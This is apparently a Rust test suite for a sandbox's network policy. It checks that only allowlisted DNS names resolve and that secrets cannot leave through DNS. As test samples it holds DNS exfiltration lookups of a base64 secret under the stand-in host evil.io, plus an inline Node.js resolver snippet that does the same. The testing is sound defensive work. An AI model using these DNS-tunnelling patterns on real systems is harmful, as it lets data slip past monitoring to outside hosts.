//! G2, G4, G20: which names exist for a server; and that no other one leaves the machine.
//!
//! A name is a message to whoever answers for it. The test's resolver writes down every byte that it is sent; in the open
//! the secret is among them, in the pen it is not.

use crate::peers;
use crate::pen::ground::Ground;
use crate::pen::log;
use crate::visit::{Visit, script};
use crate::world::{self, RESOLVER, World};

const SECRET: &str = "c2VjcmV0";

/// `dns.py`: two names and what is below a third.
fn asking<'w>(world: &'w World, server: &str, steps: &[&str]) -> Visit<'w> {
    let client = script("dns.py");
    let words = [&["/usr/bin/python3", &client, server], steps].concat();
    Visit::new(world, "runtime/python", &words)
        .allow("example.com:443")
        .allow("*.github.com:443")
        .allow("www.example.com:443")
}

/// Whether the resolver was sent the secret, in letters of any case.
fn leaked(world: &World) -> bool {
    let secret = SECRET.to_ascii_lowercase();
    world
        .resolver
        .heard()
        .iter()
        .any(|message| String::from_utf8_lossy(message).to_ascii_lowercase().contains(&secret))
}

/// What the resolver was asked for besides the two exact names, which caponier looks up for the hosts file.
fn unlisted(world: &World) -> Vec<String> {
    let mut asked = world.resolver.asked();
    asked.retain(|name| !["example.com", "www.example.com"].contains(&name.as_str()));
    asked
}

#[test]
fn listed_names_are_answered_whatever_their_case() {
    world::inside(|world| {
        world.resolver.answers("www.github.com", &[world::SITE]);
        let steps = ["listed", "upper-case", "wildcard", "edns-option"];
        let visit = asking(world, "-", &steps);
        visit.in_the_open().all_open(steps.len());
        assert!(leaked(world), "an option carries the secret in the open");
        world.resolver.forget();
        let penned = visit.in_the_pen();
        penned.all_open(steps.len());
        assert!(!leaked(world), "what came beside a listed name went on");
        penned.recorded("network.resolve", &[("host", "example.com"), ("verdict", "allow")]);
        penned.recorded("network.resolve", &[("host", "www.github.com"), ("verdict", "allow")]);
        penned.never("network.resolve", &[("host", "EXAMPLE.cOm")]);
    });
}

/// A line of the profile would change nothing: the refusal names the one that took the name away.
#[test]
fn a_name_that_the_workspace_takes_away_is_told_with_its_line() {
    world::inside(|world| {
        let visit = asking(world, "-", &["listed"]);
        let ground = Ground::new();
        let narrows = |list: &str| {
            let text = format!("version = 1\n[network]\nallow = [{list}]\n");
            std::fs::write(ground.path("workspace/.caponier.toml"), text).expect("a file");
        };
        let why_not = |event: &str, reason: &str| {
            let finished = visit.start_in_the_pen(&ground).finish();
            let events = log::events(&ground.path("audit"));
            let told = events.iter().rfind(|line| line["event"] == event && line["reason"] == reason);
            let told = told.unwrap_or_else(|| panic!("no {reason}: {finished:?}\n{events:#?}"));
            assert!(told["remedy"].is_null(), "{told}");
            told["why_not"].as_str().expect("a reason").to_owned()
        };
        narrows("\"www.example.com:443\"");
        let why = why_not("network.resolve", "net.host.not-listed");
        assert!(why.contains("/workspace/.caponier.toml:3:9") && why.contains("/profile.toml:"), "{why}");
        narrows("");
        let why = why_not("network.connect", "net.none");
        assert!(why.contains("/workspace/.caponier.toml:3:9"), "{why}");
    });
}

/// Each is told apart from what is listed, refused on the spot, and never sent anywhere.
#[test]
fn g04_g20_no_other_name_leaves() {
    world::inside(|world| {
        let steps = ["other", "other-txt", "other-aaaa", "prefix", "suffix", "below-exact"];
        let visit = asking(world, "-", &steps);
        visit.in_the_open();
        for name in [
            "c2VjcmV0.evil.io",
            "notc2VjcmV0github.com",
            "example.com.c2VjcmV0.evil.io",
            "c2VjcmV0.example.com",
        ] {
            assert!(world.resolver.asked().iter().any(|asked| asked == name), "{name} leaves in the open");
        }
        world.resolver.forget();
        let penned = visit.in_the_pen();
        penned.went(&steps.map(|step| (step, "NXDOMAIN")));
        assert_eq!(unlisted(world), Vec::<String>::new());
        for name in [
            "c2vjcmv0.evil.io",
            "notc2vjcmv0github.com",
            "example.com.c2vjcmv0.evil.io",
            "c2vjcmv0.example.com",
        ] {
            penned.refused("network.resolve", "net.host.not-listed", &[("host", name)]);
        }
    });
}

#[test]
fn g04_a_wildcard_is_not_its_apex() {
    world::inside(|world| {
        let visit = asking(world, "-", &["apex-of-wildcard"]);
        visit.in_the_open().all_open(1);
        let penned = visit.in_the_pen();
        penned.went(&[("apex-of-wildcard", "NXDOMAIN")]);
        penned.refused("network.resolve", "net.host.not-listed", &[("host", "github.com")]);
    });
}

/// Bytes that no host has in its name: a wildcard does not cover them, and the log shows them escaped.
#[test]
fn g02_names_with_odd_bytes_do_not_exist() {
    world::inside(|world| {
        let steps = [
            "nul",
            "nul-in-wildcard",
            "dot-in-label",
            "one-label",
            "crlf",
            "space",
            "high-bit",
            "escape",
            "percent",
        ];
        let visit = asking(world, "-", &steps);
        visit.in_the_open();
        assert!(leaked(world), "they leave in the open");
        world.resolver.forget();
        let penned = visit.in_the_pen();
        assert_eq!(penned.steps.len(), steps.len());
        for (step, how) in &penned.steps {
            let refused = matches!(how.as_deref(), Some("NXDOMAIN" | "FORMERR" | "REFUSED"));
            assert!(refused, "{step}: {how:?}\n{}", penned.network_events());
        }
        assert_eq!(unlisted(world), Vec::<String>::new());
        let refusals = penned
            .events
            .iter()
            .filter(|line| line["event"] == "network.resolve" && line["verdict"] == "deny")
            .count();
        assert_eq!(refusals, steps.len(), "one refusal for each:\n{}", penned.network_events());
    });
}

/// Kinds of question that could carry something out or in: nothing is in the answers, and nothing is sent on.
#[test]
fn g20_a_listed_name_has_addresses_and_nothing_else() {
    world::inside(|world| {
        let steps = [
            "txt",
            "srv",
            "any",
            "https",
            "aaaa",
            "chaos",
            "transfer",
            "two-questions",
            "trailing-bytes",
            "root",
            "reverse",
        ];
        let visit = asking(world, "-", &steps);
        visit.in_the_open();
        assert!(world.resolver.kinds().contains(&16), "TXT is asked for in the open");
        world.resolver.forget();
        let penned = visit.in_the_pen();
        let how = |step: &str| {
            let found = penned.steps.iter().find(|(name, _)| name == step).expect("a step");
            found.1.clone().unwrap_or_default()
        };
        for step in ["txt", "srv", "https", "aaaa"] {
            assert_eq!(how(step), "EMPTY", "{step}");
        }
        for step in ["chaos", "transfer", "two-questions", "root", "reverse"] {
            let refused =
                matches!(how(step).as_str(), "NXDOMAIN" | "FORMERR" | "REFUSED" | "NOTIMP" | "EMPTY");
            assert!(refused, "{step}: {}", how(step));
        }
        assert!(
            world.resolver.kinds().iter().all(|kind| [1, 28].contains(kind)),
            "{:?}",
            world.resolver.kinds()
        );
        assert_eq!(unlisted(world), Vec::<String>::new());
        assert!(!leaked(world));
    });
}

/// What is no question does no harm: the next one is answered.
#[test]
fn broken_questions_break_nothing() {
    world::inside(|world| {
        let steps = [
            "pointer-loop",
            "pointer-behind",
            "cut-off",
            "a-response",
            "an-update",
            "nothing",
            "zeros",
            "listed",
        ];
        let penned = asking(world, "-", &steps).in_the_pen();
        assert_eq!(penned.steps.len(), steps.len(), "{:?}", penned.steps);
        for (step, how) in &penned.steps[..steps.len() - 1] {
            assert!(how.is_some(), "{step} was answered");
        }
        assert_eq!(penned.steps[steps.len() - 1].1, None, "{:?}", penned.steps);
    });
}

/// F5: a name server that the program brings along.
#[test]
fn f05_another_name_server_is_not_reached() {
    world::inside(|world| {
        let visit = asking(world, RESOLVER, &["other"]);
        visit.in_the_open();
        assert!(leaked(world));
        world.resolver.forget();
        let penned = visit.in_the_pen();
        assert!(penned.steps[0].1.is_some(), "{:?}", penned.steps);
        assert!(!leaked(world), "it was asked over TCP");
        // The resolver of Node is told of the server by the program.
        let node = peers::program("node");
        let code = format!(
            "const {{Resolver}} = require('dns').promises; const r = new Resolver({{timeout: 500, tries: 1}}); \
             r.setServers(['{RESOLVER}']); r.resolve4('{SECRET}.evil.io').then(() => console.error('OPEN other'), \
             (e) => console.error('BLOCKED other ' + e.code))"
        );
        let visit = Visit::new(world, "runtime/node", &[node.to_str().expect("UTF-8"), "-e", &code])
            .allow("example.com:443");
        world.resolver.answers("c2vjcmv0.evil.io", &[world::OTHER]);
        visit.in_the_open().all_open(1);
        world.resolver.forget();
        let penned = visit.in_the_pen();
        assert!(penned.steps.len() == 1 && penned.steps[0].1.is_some(), "{:?}", penned.steps);
        assert!(!leaked(world), "it was asked");
        // Our resolv.conf makes it ask over TCP.
        penned.refused(
            "network.connect",
            "net.address.not-resolved",
            &[("address", RESOLVER), ("port", "53")],
        );
    });
}

/// G1: an empty list, and none at all, are no network: nothing resolves, nothing connects, nothing is asked.
#[test]
fn g01_an_empty_list_is_no_network() {
    world::inside(|world| {
        let client = script("client.py");
        let authority = world.authority();
        let words = [
            "/usr/bin/python3",
            &client,
            "urllib",
            &authority,
            "name=http://example.com/",
            "number=http://93.184.216.34/",
        ];
        let visit = Visit::new(world, "runtime/python", &words);
        visit.in_the_open().all_open(2);
        world.resolver.forget();
        world.site.forget();
        let penned = visit.in_the_pen();
        assert!(
            penned.steps.len() == 2 && penned.steps.iter().all(|(_, how)| how.is_some()),
            "{:?}",
            penned.steps
        );
        assert_eq!(penned.steps[1].1.as_deref(), Some("EACCES"));
        penned.refused("network.connect", "net.none", &[("address", world::SITE), ("result", "EACCES")]);
        assert_eq!(world.resolver.asked(), Vec::<String>::new());
        assert_eq!(world.site.saw(), Vec::<serde_json::Value>::new());
    });
}
